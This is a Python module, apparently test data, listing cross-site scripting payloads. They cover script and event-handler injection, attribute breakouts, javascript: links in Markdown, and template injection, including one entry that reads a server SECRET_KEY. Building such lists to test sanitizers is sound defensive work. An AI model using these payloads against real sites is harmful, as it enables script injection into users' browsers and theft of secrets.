"""What somebody would write into a text field who wants others' browsers to run it.

Each calls ``alert`` or ``hit`` where it runs: in HTML, in attributes, in addresses, in Markdown, in
style sheets, in templates, and in what browsers make of broken pages.
"""

_ELEMENTS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "<script src=data:,alert(1)></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\t>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img/src=x/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form><button formaction=javascript:alert(1) autofocus>x",
    "<base href=javascript:/a/-alert(1)///><a href=../x>x</a>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=stylesheet href=data:,x onload=alert(1)>",
    "<style onload=alert(1)></style>",
    "<template><script>alert(1)</script></template>",
    "<p style=animation-name:x onanimationstart=alert(1)>",
    "<x onpointerrawupdate=alert(1) contenteditable autofocus onfocus=alert(1)>x",
]
_ATTRIBUTES = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    '" onerror="alert(1)" x="',
    "x onerror=alert(1) ",
    "`-alert(1)-`",
    '"-alert(1)-"',
    "';alert(1);//",
    "\\';alert(1);//",
    "\u2028alert(1)//",
]
_MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "<javascript:alert(1)>",
    "![x](x){onerror=alert(1)}",
    '![" onerror="alert(1)](x)',
    '[x](https://x.example "onmouseover=alert(1)")',
    "[x]: javascript:alert(1)\n[x]",
    "`</code><script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
_TEMPLATES = [
    "{{constructor.constructor('alert(1)')()}}",
    "{% load x %}{{ settings.SECRET_KEY }}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",  # noqa: RUF001 - wide marks, as some programs make narrow
]

PAYLOADS = [*_ELEMENTS, *_ATTRIBUTES, *_MARKDOWN, *_TEMPLATES]
